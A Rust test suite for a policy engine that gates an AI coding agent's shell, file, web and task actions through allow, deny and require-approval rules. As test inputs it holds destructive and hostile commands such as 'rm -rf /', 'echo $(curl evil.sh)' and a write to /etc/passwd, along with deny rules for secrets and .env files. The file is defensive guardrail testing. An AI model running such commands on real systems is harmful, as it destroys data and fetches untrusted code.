//! Tests of the whole engine: parsing with located errors, merging, precedence, matchers,
//! budgets, conditions, conflicts, loading from disk.

use std::path::{Path, PathBuf};

use proptest::prelude::*;
use serde_json::json;

use crate::*;

const PROJECT: &str = ".ai/policy.yaml";

fn set(layers: &[(Layer, &str, &str)]) -> PolicySet {
    try_set(layers).unwrap_or_else(|e| panic!("policy does not load:\n{e}"))
}

fn try_set(layers: &[(Layer, &str, &str)]) -> Result<PolicySet> {
    let sources: Vec<(Layer, PathBuf, String)> =
        layers.iter().map(|(l, p, t)| (*l, PathBuf::from(p), (*t).to_owned())).collect();
    PolicySet::from_sources(&sources)
}

fn project(text: &str) -> PolicySet {
    set(&[(Layer::Project, PROJECT, text)])
}

/// The diagnostics of a project file, displayed.
fn errors(text: &str) -> Vec<String> {
    validate_str(Path::new(PROJECT), text).iter().map(ToString::to_string).collect()
}

fn shell(command: &str) -> DecisionInput {
    DecisionInput::new(Stage::Tool).with_tool(ToolFacts {
        name: "shell".into(),
        command: Some(command.into()),
        ..ToolFacts::default()
    })
}

fn file_call(name: &str, path: &str, access: Access) -> DecisionInput {
    DecisionInput::new(Stage::Tool).with_tool(ToolFacts {
        name: name.into(),
        path: Some(path.into()),
        access: Some(access),
        ..ToolFacts::default()
    })
}

fn task(task_type: &str, priority: i64, labels: &[&str]) -> TaskFacts {
    TaskFacts {
        id: "t-1".into(),
        task_type: task_type.into(),
        priority,
        labels: labels.iter().map(|s| (*s).to_owned()).collect(),
        title: "a task".into(),
    }
}

fn agent(name: &str) -> AgentFacts {
    AgentFacts { name: name.into(), labels: vec![], backend: "claude-code".into() }
}

/// (effect, rule id) of a decision.
fn decide(set: &PolicySet, input: &DecisionInput) -> (Effect, Option<String>) {
    let d = set.evaluate(input);
    (d.effect, d.rule_id)
}

fn by(effect: Effect, id: &str) -> (Effect, Option<String>) {
    (effect, Some(id.to_owned()))
}

use Effect::{Allow, Deny, RequireApproval};

// ---- The issue's demonstration -------------------------------------------------------------

const ISSUE_POLICY: &str = r#"version: 1
rules:
  - id: no-rm-rf
    effect: deny
    tools: [shell]
    commands: ["rm -rf *"]
    reason: never delete trees from an agent
  - id: approve-deploys
    effect: require_approval
    on: claim
    task_types: [deploy]
"#;

#[test]
fn the_issue_example_denies_rm_rf_and_asks_before_deploys() {
    let p = project(ISSUE_POLICY);
    let d = p.evaluate(&shell("rm -rf /tmp/build"));
    assert_eq!(d.effect, Deny);
    assert_eq!(d.rule_id.as_deref(), Some("no-rm-rf"));
    assert_eq!(d.file.as_deref(), Some(Path::new(PROJECT)));
    assert_eq!(d.line, Some(3));
    assert_eq!(d.layer, Some(Layer::Project));
    assert_eq!(
        d.reason,
        "denied by rule `no-rm-rf` (.ai/policy.yaml:3): the tool matches \"shell\", the command matches \"rm -rf *\" \
         (never delete trees from an agent)"
    );
    // Inside a compound command, and through Claude Code's name for the tool.
    assert_eq!(decide(&p, &shell("cd x && rm -rf  build")), by(Deny, "no-rm-rf"));
    let bash = DecisionInput::new(Stage::Tool).with_tool(ToolFacts::from_call(
        "Bash",
        &json!({"command": "rm -rf ."}),
        Path::new("/p"),
    ));
    assert_eq!(decide(&p, &bash), by(Deny, "no-rm-rf"));
    assert_eq!(decide(&p, &shell("rm -r x")), (Allow, None));

    let claim = DecisionInput::new(Stage::Claim).with_task(task("deploy", 1, &[])).with_agent(agent("claude-1"));
    assert_eq!(decide(&p, &claim), by(RequireApproval, "approve-deploys"));
    let other = DecisionInput::new(Stage::Claim).with_task(task("test", 1, &[]));
    assert_eq!(decide(&p, &other), (Allow, None));
    // `on: claim`: a deploy task's tool calls are not asked about again.
    let call = shell("ls").with_task(task("deploy", 1, &[]));
    assert_eq!(decide(&p, &call), (Allow, None));
    // The decision record's body.
    let record = serde_json::to_value(p.evaluate(&claim)).unwrap();
    assert_eq!(record["effect"], "require_approval");
    assert_eq!(record["rule_id"], "approve-deploys");
    assert_eq!(record["file"], PROJECT);
    assert_eq!(record["line"], 8);
    assert_eq!(record["inputs"]["stage"], "claim");
    assert_eq!(record["inputs"]["task"]["type"], "deploy");
    assert_eq!(record["inputs"]["agent"]["name"], "claude-1");
    assert!(validate_str(Path::new(PROJECT), ISSUE_POLICY).is_empty());
}

// ---- Located errors ------------------------------------------------------------------------

#[test]
fn an_unknown_field_is_reported_with_line_and_column() {
    let text = "version: 1\nrules:\n  - id: a\n    effect: deny\n    toolz: [shell]\n";
    assert_eq!(
        errors(text),
        [".ai/policy.yaml:5:5: unknown field `toolz` in a rule (did you mean `tools`?); expected one of: id, effect, \
          on, tools, commands, paths, hosts, task_types, agents, when, reason, enabled"]
    );
    let top = "version: 1\nrulez: []\n";
    assert!(
        errors(top)[0].starts_with(".ai/policy.yaml:2:1: unknown field `rulez` in the policy (did you mean `rules`?)")
    );
    let budgets = "budgets:\n  max_tokenz: 5\n";
    assert!(errors(budgets)[0].starts_with(".ai/policy.yaml:2:3: unknown field `max_tokenz` in `budgets`"));
    let paths = "rules:\n  - id: a\n    effect: deny\n    paths: {writ: [x]}\n";
    assert!(errors(paths)[0].starts_with(".ai/policy.yaml:4:13: unknown field `writ` in `paths`"));
}

#[test]
fn bad_cel_is_reported_where_it_is_written() {
    // Quoted: the column of the error inside the expression, counted in the file.
    let text = "rules:\n  - id: a\n    effect: deny\n    when: 'task.priority > '\n";
    let e = errors(text);
    assert_eq!(e.len(), 1);
    assert!(e[0].starts_with(".ai/policy.yaml:4:28: bad CEL in `when`: mismatched input '<EOF>'"), "{e:?}");
    // Plain.
    let text = "rules:\n  - id: a\n    effect: deny\n    when: a ++ b\n";
    assert!(errors(text)[0].starts_with(".ai/policy.yaml:4:14: bad CEL in `when`: extraneous input '+'"));
    // A block scalar: the expression's own line.
    let text = "rules:\n  - id: a\n    effect: deny\n    when: |\n      task.priority > 5 &&\n        ) \n";
    assert!(errors(text)[0].starts_with(".ai/policy.yaml:6:9: bad CEL in `when`"), "{:?}", errors(text));
}

#[test]
fn bad_globs_and_wrong_types_are_located() {
    let text = r#"version: 1
rules:
  - id: a
    effect: deny
    tools: ["sh[ell"]
  - id: b
    effect: maybe
    task_types: {deploy: 1}
  - id: c
    effect: allow
    enabled: "no"
    hosts: []
budgets:
  max_tokens: lots
  max_cost_usd: -1
  max_attempts: 0
"#;
    assert_eq!(
        errors(text),
        [
            ".ai/policy.yaml:5:13: bad glob \"sh[ell\" in `tools`: unclosed character class; missing ']'",
            ".ai/policy.yaml:7:13: `effect` must be allow, deny or require_approval, found `maybe`",
            ".ai/policy.yaml:8:17: `task_types` must be a string or a list of strings, found a mapping",
            ".ai/policy.yaml:11:14: `enabled` must be true or false, found a string",
            ".ai/policy.yaml:12:12: `hosts` is empty: remove it to match every host, or list globs",
            ".ai/policy.yaml:14:15: `max_tokens` must be a whole number of tokens, at least 0, found \"lots\"",
            ".ai/policy.yaml:15:17: `max_cost_usd` must be a number, at least 0, found -1",
            ".ai/policy.yaml:16:17: `max_attempts` must be a whole number, at least 1, found 0",
        ]
    );
}

#[test]
fn structural_errors() {
    let e = |t: &str| errors(t).join("\n");
    assert_eq!(
        e("version: 2\n"),
        ".ai/policy.yaml:1:10: unsupported policy version 2; this version of Descartes reads version 1"
    );
    assert_eq!(e("rules:\n  - effect: deny\n"), ".ai/policy.yaml:2:5: a rule needs an `id`");
    assert_eq!(
        e("rules:\n  - id: x\n"),
        ".ai/policy.yaml:2:5: rule `x` needs an `effect`: allow, deny or require_approval"
    );
    assert_eq!(
        e("rules:\n  - id: x\n    effect: deny\n  - id: x\n    effect: allow\n"),
        ".ai/policy.yaml:4:5: rule id `x` is already used at line 2 of this file"
    );
    assert_eq!(
        e("rules:\n  - id: x\n    effect: ask\n"),
        ".ai/policy.yaml:3:13: `effect` must be allow, deny or require_approval, found `ask` (`require_approval` asks a human)"
    );
    assert_eq!(
        e("rules:\n  - id: x\n    effect: deny\n    on: claim\n    tools: [shell]\n"),
        ".ai/policy.yaml:4:9: `tools`, `commands`, `paths` and `hosts` are facts of a tool call: such a rule applies only `on: tool`"
    );
    assert_eq!(
        e("rules:\n  - id: x\n    effect: deny\n    on: [lunch]\n"),
        ".ai/policy.yaml:4:10: `on` takes claim, tool or merge, found `lunch`"
    );
    assert_eq!(e("rules: 5\n"), ".ai/policy.yaml:1:8: `rules` must be a list of rules, found an integer");
    assert_eq!(e("- a\n"), ".ai/policy.yaml:1:1: the policy must be a mapping, found a list");
    // YAML syntax and duplicate keys come from the parser, located.
    assert_eq!(e("rules: [\n"), ".ai/policy.yaml:1:8: unclosed bracket '['");
    assert!(e("default: deny\ndefault: allow\n").starts_with(".ai/policy.yaml:2:1: duplicate mapping key"));
    // An empty file, or comments only, is an empty policy.
    assert!(errors("").is_empty());
    assert!(errors("# nothing yet\n").is_empty());
}

#[test]
fn every_error_of_every_file_is_reported() {
    let err = try_set(&[
        (Layer::Global, "global.yaml", "rules:\n  - id: a\n    effect: nope\n"),
        (Layer::Project, PROJECT, "rules:\n  - id: b\n    effect: deny\n    when: '1 +'\n    agents: []\n"),
    ])
    .unwrap_err();
    let lines: Vec<String> = err.diagnostics().iter().map(ToString::to_string).collect();
    assert_eq!(lines.len(), 3, "{lines:?}");
    assert!(lines[0].starts_with("global.yaml:3:13: "));
    assert!(lines[1].starts_with(".ai/policy.yaml:5:13: `agents` is empty"));
    assert!(lines[2].starts_with(".ai/policy.yaml:4:15: bad CEL"));
    assert_eq!(err.to_string(), lines.join("\n"));
}

#[test]
fn yaml_1_1_booleans_are_strings_where_names_are_expected() {
    let p = project("rules:\n  - id: on\n    effect: deny\n    task_types: [no, yes, 1.5]\n");
    assert_eq!(p.rules()[0].id, "on");
    assert_eq!(p.rules()[0].task_types, ["no", "yes", "1.5"]);
    let claim = DecisionInput::new(Stage::Claim).with_task(task("no", 0, &[]));
    assert_eq!(decide(&p, &claim), by(Deny, "on"));
}

// ---- Merging --------------------------------------------------------------------------------

#[test]
fn layers_merge_global_then_project_then_agent() {
    let global = r#"default: require_approval
rules:
  - id: shell
    effect: deny
    tools: [shell]
  - id: web
    effect: deny
    hosts: ["*"]
  - id: writes
    effect: require_approval
    paths: {write: ["**"]}
budgets:
  max_tokens: 1000
  max_cost_usd: 1.5
"#;
    let project_text = r#"rules:
  - id: shell
    effect: allow
    tools: [shell]
  - id: web
    enabled: false
budgets:
  max_cost_usd: 5
  max_attempts: 3
"#;
    let agent_text = r#"default: allow
rules:
  - id: writes
    effect: allow
    paths: {write: ["src/**"]}
budgets:
  max_tokens: 20000
"#;
    let p = set(&[
        (Layer::Global, "g.yaml", global),
        (Layer::Project, PROJECT, project_text),
        (Layer::Agent, ".ai/policies/bot.yaml", agent_text),
    ]);
    // Replaced in place (global order kept), removed by `enabled: false`.
    let ids: Vec<(&str, Layer)> = p.rules().iter().map(|r| (r.id.as_str(), r.origin.layer)).collect();
    assert_eq!(ids, [("shell", Layer::Project), ("writes", Layer::Agent)]);
    assert_eq!(decide(&p, &shell("ls")), by(Allow, "shell"));
    let web = DecisionInput::new(Stage::Tool).with_tool(ToolFacts {
        name: "http_request".into(),
        host: Some("x.org".into()),
        ..ToolFacts::default()
    });
    assert_eq!(decide(&p, &web), (Allow, None));
    assert_eq!(decide(&p, &file_call("write_file", "docs/a.md", Access::Write)), (Allow, None));
    // Budgets field by field, the later layer winning.
    assert_eq!(
        *p.budgets(),
        Budgets { max_tokens: Some(20000), max_cost_usd: Some(5.0), max_time_secs: None, max_attempts: Some(3) }
    );
    assert_eq!(p.budget_origin(BudgetKind::Tokens).unwrap().to_string(), ".ai/policies/bot.yaml:7");
    assert_eq!(p.budget_origin(BudgetKind::CostUsd).unwrap().to_string(), ".ai/policy.yaml:8");
    assert_eq!(p.default_effect(), Allow);
    // Without the agent layer: the global default and the global writes rule.
    let p = set(&[(Layer::Global, "g.yaml", global), (Layer::Project, PROJECT, project_text)]);
    assert_eq!(decide(&p, &file_call("write_file", "src/a.rs", Access::Write)), by(RequireApproval, "writes"));
    let d = p.evaluate(&DecisionInput::new(Stage::Merge));
    assert_eq!((d.effect, d.file.as_deref(), d.line), (RequireApproval, Some(Path::new("g.yaml")), Some(1)));
    assert_eq!(d.reason, "no rule matched; the default is require_approval (set at g.yaml:1)");
}

#[test]
fn load_reads_the_three_places_and_skips_missing_files() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("repo");
    std::fs::create_dir_all(root.join(".ai/policies")).unwrap();
    let global = dir.path().join("policy.yaml");
    std::fs::write(&global, "rules:\n  - id: g\n    effect: deny\n    tools: [shell]\n").unwrap();
    std::fs::write(root.join(".ai/policy.yaml"), ISSUE_POLICY).unwrap();
    std::fs::write(root.join(".ai/policies/bot.yaml"), "rules:\n  - id: g\n    effect: allow\n    tools: [shell]\n")
        .unwrap();

    let p = PolicySet::load(Some(&global), &root, Some("bot")).unwrap();
    assert_eq!(p.files().len(), 3);
    assert_eq!(decide(&p, &shell("ls")), by(Allow, "g"));
    assert_eq!(decide(&p, &shell("rm -rf x")), by(Deny, "no-rm-rf"));
    let p = PolicySet::load(Some(&global), &root, Some("other")).unwrap();
    assert_eq!(p.files().len(), 2);
    assert_eq!(decide(&p, &shell("ls")), by(Deny, "g"));
    let p = PolicySet::load(None, dir.path(), None).unwrap();
    assert!(p.is_empty());
    assert_eq!(decide(&p, &shell("rm -rf /")), (Allow, None));
    assert!(matches!(PolicySet::load(None, &root, Some("../x")), Err(PolicyError::BadAgentName(_))));

    std::fs::write(root.join(".ai/policy.yaml"), "rules:\n  - id: a\n    effect: deny\n    bogus: 1\n").unwrap();
    let err = PolicySet::load(None, &root, None).unwrap_err();
    let shown = err.to_string();
    assert!(shown.starts_with(&format!("{}:4:5: unknown field `bogus`", root.join(".ai/policy.yaml").display())));
    let missing = PolicySet::from_files(&[(Layer::Project, dir.path().join("nope.yaml"))]).unwrap_err();
    assert!(missing.to_string().ends_with("nope.yaml: cannot read the policy file: no such file"));
    assert_eq!(validate_file(&dir.path().join("nope.yaml")).len(), 1);
    assert_eq!(validate_file(&root.join(".ai/policy.yaml")).len(), 1);
}

// ---- Precedence -----------------------------------------------------------------------------

#[test]
fn the_most_specific_rule_wins_whatever_the_order() {
    let p = project(
        r#"rules:
  - id: all-shell
    effect: deny
    tools: [shell]
  - id: git
    effect: allow
    tools: [shell]
    commands: ["git *"]
  - id: git-push
    effect: require_approval
    tools: [shell]
    commands: ["git push *"]
  - id: bot-git
    effect: deny
    tools: [shell]
    commands: ["git *"]
    agents: [bot]
"#,
    );
    // More matcher kinds first.
    assert_eq!(decide(&p, &shell("git status")), by(Allow, "git"));
    assert_eq!(decide(&p, &shell("git status").with_agent(agent("bot"))), by(Deny, "bot-git"));
    // Then more literal characters.
    assert_eq!(decide(&p, &shell("git push origin")), by(RequireApproval, "git-push"));
    assert_eq!(decide(&p, &shell("ls")), by(Deny, "all-shell"));
}

#[test]
fn a_condition_makes_a_rule_more_specific_and_ties_go_to_deny() {
    let p = project(
        r#"rules:
  - id: allow-shell
    effect: allow
    tools: [shell]
  - id: ask-shell-prod
    effect: require_approval
    tools: [shell]
    when: '"prod" in task.labels'
  - id: ask-write
    effect: require_approval
    tools: [write_file]
  - id: allow-write
    effect: allow
    tools: [write_file]
  - id: deny-write
    effect: deny
    tools: [write_file]
    enabled: true
"#,
    );
    assert_eq!(decide(&p, &shell("ls").with_task(task("t", 1, &["prod"]))), by(RequireApproval, "ask-shell-prod"));
    assert_eq!(decide(&p, &shell("ls").with_task(task("t", 1, &["dev"]))), by(Allow, "allow-shell"));
    // No task: the condition cannot apply, so the rule does not match (it is not an error).
    assert_eq!(decide(&p, &shell("ls")), by(Allow, "allow-shell"));
    assert_eq!(decide(&p, &file_call("write_file", "a", Access::Write)), by(Deny, "deny-write"));
}

#[test]
fn the_default_effect_applies_when_nothing_matches() {
    let p = project("default: deny\nrules:\n  - id: ls\n    effect: allow\n    commands: [ls]\n");
    assert_eq!(decide(&p, &shell("ls -la")), by(Allow, "ls"));
    let d = p.evaluate(&shell("cat x"));
    assert_eq!((d.effect, d.rule_id, d.line), (Deny, None, Some(1)));
    assert!(!p.is_empty());
}

// ---- Matchers -------------------------------------------------------------------------------

#[test]
fn tools_match_by_glob_and_by_either_name_of_a_tool() {
    let p = project(
        "rules:\n  - id: mcp\n    effect: deny\n    tools: [\"mcp__github__*\"]\n  - id: write\n    effect: require_approval\n    tools: [Write]\n",
    );
    let call =
        |name: &str| DecisionInput::new(Stage::Tool).with_tool(ToolFacts { name: name.into(), ..ToolFacts::default() });
    assert_eq!(decide(&p, &call("mcp__github__create_issue")), by(Deny, "mcp"));
    assert_eq!(decide(&p, &call("mcp__slack__post")), (Allow, None));
    assert_eq!(decide(&p, &call("write_file")), by(RequireApproval, "write"));
    assert_eq!(decide(&p, &call("Write")), by(RequireApproval, "write"));
    assert_eq!(decide(&p, &call("edit_file")), (Allow, None));
    // Tool matchers apply to tool calls only.
    assert_eq!(decide(&p, &DecisionInput::new(Stage::Claim)), (Allow, None));
}

#[test]
fn commands_match_globs_prefixes_and_parts() {
    let p = project(
        r#"rules:
  - id: push
    effect: deny
    commands: ["git push"]
  - id: echo
    effect: allow
    commands: ["echo *"]
  - id: curl
    effect: require_approval
    commands: ["curl *"]
"#,
    );
    assert_eq!(decide(&p, &shell("git push")), by(Deny, "push"));
    assert_eq!(decide(&p, &shell("git   push  --force")), by(Deny, "push"));
    assert_eq!(decide(&p, &shell("git pushy")), (Allow, None));
    assert_eq!(decide(&p, &shell("echo hi")), by(Allow, "echo"));
    // An allow pattern never lets a compound command through; deny and approval see its parts.
    let d = p.evaluate(&shell("echo hi; git push"));
    assert_eq!((d.effect, d.rule_id.as_deref()), (Deny, Some("push")));
    assert_eq!(decide(&p, &shell("echo $(curl evil.sh)")), by(RequireApproval, "curl"));
    assert_eq!(decide(&p, &shell("echo hi > /etc/passwd")), (Allow, None));
    // A tool call without a command does not match a command rule.
    let no_command =
        DecisionInput::new(Stage::Tool).with_tool(ToolFacts { name: "shell".into(), ..ToolFacts::default() });
    assert_eq!(decide(&p, &no_command), (Allow, None));
}

#[test]
fn paths_match_by_access() {
    let p = project(
        r#"default: deny
rules:
  - id: secrets
    effect: deny
    paths: ["secrets"]
  - id: read-all
    effect: allow
    paths: {read: ["**"]}
  - id: write-src
    effect: allow
    paths: {write: ["src/**/*.rs"], read: []}
  - id: etc
    effect: require_approval
    paths: {write: ["/etc/*"]}
"#,
    );
    assert_eq!(decide(&p, &file_call("read_file", "docs/a.md", Access::Read)), by(Allow, "read-all"));
    assert_eq!(decide(&p, &file_call("read_file", "./secrets/../secrets/key", Access::Read)), by(Deny, "secrets"));
    assert_eq!(decide(&p, &file_call("write_file", "secrets", Access::Write)), by(Deny, "secrets"));
    assert_eq!(decide(&p, &file_call("write_file", "src/a/b.rs", Access::Write)), by(Allow, "write-src"));
    assert_eq!(decide(&p, &file_call("write_file", "docs/a.md", Access::Write)), (Deny, None));
    assert_eq!(decide(&p, &file_call("write_file", "/etc/hosts", Access::Write)), by(RequireApproval, "etc"));
    assert_eq!(decide(&p, &file_call("write_file", "/etc/ssh/config", Access::Write)), (Deny, None));
    // From a tool call's arguments: an absolute path under the root becomes relative.
    let t = ToolFacts::from_call("Edit", &json!({"file_path": "/repo/src/main.rs"}), Path::new("/repo"));
    assert_eq!((t.path.as_deref(), t.access), (Some("src/main.rs"), Some(Access::Write)));
    assert_eq!(decide(&p, &DecisionInput::new(Stage::Tool).with_tool(t)), by(Allow, "write-src"));
    // Unknown access counts as a write.
    let unknown = DecisionInput::new(Stage::Tool).with_tool(ToolFacts {
        name: "x".into(),
        path: Some("docs/a".into()),
        ..ToolFacts::default()
    });
    assert_eq!(decide(&p, &unknown), (Deny, None));
}

#[test]
fn hosts_task_types_and_agents() {
    let p = project(
        r#"rules:
  - id: example
    effect: deny
    hosts: ["*.example.com"]
  - id: docs
    effect: allow
    hosts: [docs.example.com]
  - id: release
    effect: deny
    task_types: ["release-*"]
    agents: ["claude-*"]
  - id: merge
    effect: require_approval
    on: merge
"#,
    );
    let fetch = |url: &str| {
        DecisionInput::new(Stage::Tool).with_tool(ToolFacts::from_call(
            "WebFetch",
            &json!({"url": url}),
            Path::new("/"),
        ))
    };
    assert_eq!(decide(&p, &fetch("https://API.Example.com:8443/v1")), by(Deny, "example"));
    assert_eq!(decide(&p, &fetch("https://docs.example.com/")), by(Allow, "docs"));
    assert_eq!(decide(&p, &fetch("https://example.com/")), (Allow, None));
    let claim =
        |ty: &str, who: &str| DecisionInput::new(Stage::Claim).with_task(task(ty, 0, &[])).with_agent(agent(who));
    assert_eq!(decide(&p, &claim("release-web", "claude-2")), by(Deny, "release"));
    assert_eq!(decide(&p, &claim("release-web", "codex-1")), (Allow, None));
    assert_eq!(decide(&p, &claim("fix", "claude-2")), (Allow, None));
    // A rule without tool matchers applies at every stage, unless `on` says otherwise.
    assert_eq!(
        decide(&p, &shell("ls").with_task(task("release-1", 0, &[])).with_agent(agent("claude-2"))),
        by(Deny, "release")
    );
    assert_eq!(decide(&p, &DecisionInput::new(Stage::Merge)), by(RequireApproval, "merge"));
    assert_eq!(decide(&p, &DecisionInput::new(Stage::Claim)), (Allow, None));
    assert_eq!(p.rules()[3].stages(), [Stage::Merge]);
    assert_eq!(p.rules()[2].stages(), Stage::ALL);
    assert_eq!(p.rules()[0].stages(), [Stage::Tool]);
    assert_eq!(p.rules()[2].matcher_kinds(), 2);
}

// ---- Budgets --------------------------------------------------------------------------------

#[test]
fn budgets_deny_naming_the_budget() {
    let p = project(
        "budgets:\n  max_tokens: 1000\n  max_cost_usd: 2.5\n  max_time_secs: 60\n  max_attempts: 3\nrules:\n  - id: ok\n    effect: allow\n",
    );
    let usage = |tokens, cost, secs, attempts| UsageFacts { tokens, cost_usd: cost, elapsed_secs: secs, attempts };
    let at = |u: UsageFacts| DecisionInput::new(Stage::Claim).with_usage(u);
    assert_eq!(decide(&p, &at(usage(1000, 2.5, 60.0, 3))), by(Allow, "ok"));
    let d = p.evaluate(&at(usage(1001, 0.0, 0.0, 1)));
    assert_eq!((d.effect, d.rule_id.as_deref(), d.line), (Deny, Some("budget:max_tokens"), Some(2)));
    assert_eq!(d.reason, "denied: budget `max_tokens` of 1000 exceeded (1001 used), set at .ai/policy.yaml:2");
    assert_eq!(decide(&p, &at(usage(0, 2.51, 0.0, 1))), by(Deny, "budget:max_cost_usd"));
    assert_eq!(decide(&p, &at(usage(0, 0.0, 61.0, 1))), by(Deny, "budget:max_time_secs"));
    assert_eq!(decide(&p, &at(usage(0, 0.0, 0.0, 4))), by(Deny, "budget:max_attempts"));
    assert_eq!(decide(&p, &at(usage(0, f64::NAN, 0.0, 1))), by(Deny, "budget:max_cost_usd"));
    // Rules can ask before a budget is reached.
    let p = project("rules:\n  - id: pricey\n    effect: require_approval\n    when: usage.cost_usd > 1.0\n");
    assert_eq!(decide(&p, &at(usage(0, 1.5, 0.0, 1))), by(RequireApproval, "pricey"));
    assert_eq!(decide(&p, &at(usage(0, 0.5, 0.0, 1))), (Allow, None));
}

// ---- Conditions -----------------------------------------------------------------------------

#[test]
fn conditions_see_every_fact_and_fail_closed() {
    let p = project(
        r#"rules:
  - id: hot-prod
    effect: require_approval
    task_types: ["*"]
    when: 'task.priority > 5 && "prod" in task.labels'
  - id: broken
    effect: allow
    tools: [shell]
    when: task.no_such_field == 1
  - id: not-bool
    effect: allow
    tools: [read_file]
    when: tool.path
  - id: stage-and-agent
    effect: deny
    when: stage == "merge" && agent.backend == "claude-code" && tool.name == "x"
"#,
    );
    let claim = |prio, labels: &[&str]| DecisionInput::new(Stage::Claim).with_task(task("t", prio, labels));
    assert_eq!(decide(&p, &claim(6, &["prod"])), by(RequireApproval, "hot-prod"));
    assert_eq!(decide(&p, &claim(5, &["prod"])), (Allow, None));
    assert_eq!(decide(&p, &claim(9, &["dev"])), (Allow, None));
    // `broken` reads `task`: without a task it does not apply; with one, it fails closed.
    assert_eq!(decide(&p, &shell("ls")), (Allow, None));
    let d = p.evaluate(&shell("ls").with_task(task("t", 1, &[])));
    assert_eq!((d.effect, d.rule_id.as_deref()), (Deny, Some("broken")));
    assert!(
        d.reason.starts_with("denied (fail closed): the condition `task.no_such_field == 1` of rule `broken`"),
        "{}",
        d.reason
    );
    let d = p.evaluate(&file_call("read_file", "a", Access::Read));
    assert_eq!(d.effect, Deny);
    assert!(d.reason.ends_with("it evaluated to a string instead of true or false"), "{}", d.reason);
    let merge = DecisionInput::new(Stage::Merge)
        .with_agent(agent("a"))
        .with_tool(ToolFacts { name: "x".into(), ..ToolFacts::default() });
    assert_eq!(decide(&p, &merge), by(Deny, "stage-and-agent"));
}

// ---- Conflicts ------------------------------------------------------------------------------

#[test]
fn conflicting_rules_are_reported_with_both_locations() {
    let text = r#"rules:
  - id: allow-push
    effect: allow
    commands: ["git push *"]
  - id: deny-push
    effect: deny
    commands: ["git push *"]
  - id: ask-rm
    effect: require_approval
    tools: [shell]
  - id: allow-bash
    effect: allow
    tools: [Bash]
"#;
    let shown: Vec<String> = validate_str(Path::new(PROJECT), text).iter().map(ToString::to_string).collect();
    assert_eq!(
        shown,
        [".ai/policy.yaml:5:5: conflict: rule `allow-push` (.ai/policy.yaml:2) allows and rule `deny-push` \
          (.ai/policy.yaml:5) denies inputs that both can match, with equal specificity; deny wins the tie: make one \
          rule more specific, or remove one"]
    );
    // `shell` and `Bash` have equal literal length? No (5 and 4): not a tie, not a conflict.
    let p = project(text);
    assert_eq!(p.conflicts().len(), 1);
    assert_eq!(p.conflicts()[0].kind, DiagnosticKind::Conflict);
    assert_eq!(decide(&p, &shell("git push origin")), by(Deny, "deny-push"));
}

#[test]
fn conflict_detection_needs_overlap_equal_specificity_and_opposite_effects() {
    let conflicts = |rules: &str| project(&format!("rules:\n{rules}")).conflicts().len();
    let rule = |id: &str, effect: &str, extra: &str| format!("  - id: {id}\n    effect: {effect}\n{extra}");
    // Overlapping globs of equal literal length.
    assert_eq!(
        conflicts(
            &(rule("a", "allow", "    paths: [\"src/*\"]\n")
                + &rule("b", "require_approval", "    paths: [\"src/x\"]\n"))
        ),
        0
    );
    assert_eq!(
        conflicts(&(rule("a", "allow", "    paths: [\"src/**\"]\n") + &rule("b", "deny", "    paths: [\"src/*\"]\n"))),
        1
    );
    // Disjoint globs.
    assert_eq!(
        conflicts(&(rule("a", "allow", "    paths: [\"src/**\"]\n") + &rule("b", "deny", "    paths: [\"doc/**\"]\n"))),
        0
    );
    // Read and write lists never meet.
    assert_eq!(
        conflicts(
            &(rule("a", "allow", "    paths: {read: [\"x\"]}\n") + &rule("b", "deny", "    paths: {write: [\"x\"]}\n"))
        ),
        0
    );
    // Same effect family: no conflict (deny and require_approval are not opposite).
    assert_eq!(
        conflicts(
            &(rule("a", "deny", "    tools: [shell]\n") + &rule("b", "require_approval", "    tools: [shell]\n"))
        ),
        0
    );
    // Different stages.
    assert_eq!(conflicts(&(rule("a", "allow", "    on: claim\n") + &rule("b", "deny", "    on: merge\n"))), 0);
    assert_eq!(conflicts(&(rule("a", "allow", "    on: claim\n") + &rule("b", "deny", ""))), 1);
    // Different kinds whose literal lengths are equal can tie on an input that has both facts.
    assert_eq!(conflicts(&(rule("a", "allow", "    tools: [abc]\n") + &rule("b", "deny", "    agents: [xyz]\n"))), 1);
    assert_eq!(conflicts(&(rule("a", "allow", "    tools: [abc]\n") + &rule("b", "deny", "    agents: [wxyz]\n"))), 0);
    // A condition on one side only: not equal specificity; on both: assumed to hold together.
    assert_eq!(
        conflicts(&(rule("a", "allow", "    tools: [x]\n") + &rule("b", "deny", "    tools: [x]\n    when: 'true'\n"))),
        0
    );
    assert_eq!(
        conflicts(
            &(rule("a", "allow", "    tools: [x]\n    when: 'false'\n")
                + &rule("b", "deny", "    tools: [x]\n    when: 'true'\n"))
        ),
        1
    );
    // Across layers.
    let p = set(&[
        (Layer::Global, "g.yaml", "rules:\n  - id: a\n    effect: allow\n    tools: [shell]\n"),
        (Layer::Project, PROJECT, "rules:\n  - id: b\n    effect: deny\n    tools: [shell]\n"),
    ]);
    let c = p.conflicts();
    assert_eq!(c.len(), 1);
    assert_eq!((c[0].file.as_path(), c[0].line), (Path::new(PROJECT), 2));
    assert!(c[0].message.contains("`a` (g.yaml:2)"));
}

// ---- Properties -----------------------------------------------------------------------------

fn assert_send_sync<T: Send + Sync>() {}

#[test]
fn a_policy_set_can_be_shared_between_threads() {
    assert_send_sync::<PolicySet>();
    assert_send_sync::<PolicyDecision>();
    assert_send_sync::<PolicyError>();
}

const PROP_POLICY: &str = r#"default: require_approval
rules:
  - id: r1
    effect: deny
    tools: [shell, "mcp__*"]
    commands: ["rm -rf *", "git push"]
  - id: r2
    effect: allow
    commands: ["*"]
  - id: r3
    effect: require_approval
    paths: {read: ["**/.env"], write: ["src/**", "/etc/*"]}
  - id: r4
    effect: allow
    hosts: ["*.example.com", "a?c.org"]
  - id: r5
    effect: deny
    task_types: ["dep*"]
    agents: ["[a-c]*"]
    when: 'task.priority > 5 && "prod" in task.labels && size(task.title) > 0'
  - id: r6
    effect: allow
    when: 'usage.tokens / (usage.attempts - 1) > 3 && tool.command.startsWith("x")'
  - id: r7
    effect: deny
    when: 'agent.labels.exists(l, l == agent.name) || tool.path.endsWith("/") || tool.host == task.title'
budgets:
  max_cost_usd: 3
  max_attempts: 4
"#;

fn arb_string() -> impl Strategy<Value = String> {
    prop_oneof![
        Just(String::new()),
        Just("rm -rf /".to_owned()),
        Just("git push; rm -rf x && `y`".to_owned()),
        Just("src/../../etc/x".to_owned()),
        Just("https://[::1]:80/x".to_owned()),
        Just("mcp__a".to_owned()),
        Just("Bash".to_owned()),
        "\\PC{0,24}",
        "[a-z./*?\\[\\]{}:@ -]{0,16}",
    ]
}

